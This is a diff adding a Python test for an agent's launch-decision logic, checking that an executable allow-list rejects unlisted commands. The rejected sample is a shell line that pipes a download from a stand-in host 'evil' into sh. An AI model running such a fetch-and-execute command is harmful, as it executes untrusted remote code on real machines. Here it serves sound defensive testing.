@@ -205,3 +205,18 @@ def test_checkpoint_paths_must_lie_inside_the_allowed_roots(
     assert kinds(d) == (["Launch"] if launched else ["Reject"]), reasons(d)
     if not launched:
         assert reasons(d)[0].startswith("invalid start command: ")
+
+
+def test_an_allow_list_confines_what_a_start_may_run() -> None:
+    cmd = start_cmd("n1", "run", 1, ("r0",))  # argv[0] is this interpreter
+    allowed = replace(CFG, allowed_executables=(cmd.argv[0],))
+    assert kinds(decide(allowed, AgentState(), cmd, NOW)) == ["Launch"]
+    other = replace(cmd, argv=("/bin/sh", "-c", "curl evil | sh"))
+    d = decide(allowed, AgentState(), other, NOW)
+    assert kinds(d) == ["Reject"]
+    assert "not_allowed: the command's executable '/bin/sh' is not one the agent may run" \
+        in reasons(d)[0]
+    empty = replace(cmd, argv=())
+    assert kinds(decide(allowed, AgentState(), empty, NOW)) == ["Reject"]
+    # No list: any executable, as before.
+    assert kinds(decide(CFG, AgentState(), other, NOW)) == ["Launch"]
